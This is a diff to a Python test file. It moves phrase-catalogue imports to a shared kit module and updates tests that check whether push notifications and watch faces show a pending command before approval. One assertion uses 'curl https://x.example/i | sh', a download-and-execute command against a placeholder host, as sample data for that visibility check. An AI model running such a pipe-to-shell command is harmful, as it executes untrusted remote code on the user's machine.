@@ -11,16 +11,15 @@ from edge.speech import saying
 from hub.contract.api import DefinedBy, Prediction, Runs
 from hub.contract.events import PredictionNew
 from hub.contract.words import GRANTING, Verb
-from surfaces.apns.catalogue import read_words as read_apns_words
+from hub.kit.announcing import told
+from hub.kit.phrase_files import phrases
 from surfaces.apns.face import Face, WatchCard, timeline
 from surfaces.apns.render import render_alert
-from surfaces.apns.says import told
 from surfaces.discord import render as discord
 from surfaces.discord.card import Card
 from surfaces.discord.settings import Config, VoterRule
 from surfaces.discord.votes import Tally
 from surfaces.terminal.render import plain_text, render
-from surfaces.web.catalogue import read_words
 from surfaces.web.render import Reader
 from surfaces.web.render import render as render_push
 from tests.surfaces.apns.cards import delivery as apns_delivery
@@ -72,7 +71,7 @@ def test_a_notification_shows_it_or_takes_no_approval() -> None:
 
 
 def test_a_browsers_push_shows_it_or_takes_no_approval() -> None:
-    reader = Reader(origin="https://pulse.example.org", words=read_words()["en"], pending=1)
+    reader = Reader(origin="https://pulse.example.org", words=phrases(), pending=1)
     whole = render_push(delivery(PredictionNew(prediction=card())), reader, at=NOW, now=NOW, bytes_max=3_993)
     assert whole is not None
     assert "curl https://x.example/i | sh" in text_of(whole.body)
@@ -95,7 +94,7 @@ def test_a_watch_face_approves_nothing_whose_command_it_does_not_show() -> None:
         token=TOKEN,
         verbs=(Verb.APPROVE,),
     )
-    first = timeline(Face(cards=(worn,)), read_apns_words()["en"], privacy="full", now=NOW)[0]
+    first = timeline(Face(cards=(worn,)), phrases(), privacy="full", now=NOW)[0]
     assert (first.rectangular.tap, first.rectangular.token) == ("open", "")
 
 
